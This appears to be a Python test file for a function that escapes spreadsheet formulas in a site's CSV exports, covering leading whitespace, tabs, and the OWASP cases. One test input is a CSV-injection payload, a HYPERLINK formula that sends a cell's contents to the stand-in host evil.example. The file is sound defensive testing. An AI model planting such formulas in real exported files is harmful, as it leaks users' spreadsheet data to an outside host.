"""The one escape of the site's CSV cells (home/spreadsheets.py): text a spreadsheet would run
as a formula gets an apostrophe, also when whitespace comes first; numbers stay numbers."""

import pytest

from home.spreadsheets import formula_safe

FORMULAS = [
    "=1+1",
    "  =1+1",
    ' =HYPERLINK("https://evil.example/?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0+1",  # a no-break space first
    "@SUM(1)",
    "-2+3",
    "\tplain",  # OWASP: a tab or a carriage return first is escaped whatever follows
    "\rplain",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert formula_safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["Knez Mihailova 12", " Knez Mihailova", "1+1", "a=b", "", "'=quoted already?"]
)
def test_other_text_is_left_alone(value):
    assert formula_safe(value) == value


@pytest.mark.parametrize("value", [-0.5, -20, 0, 3.25, None, True])
def test_numbers_and_other_values_are_not_text(value):
    assert formula_safe(value) is value
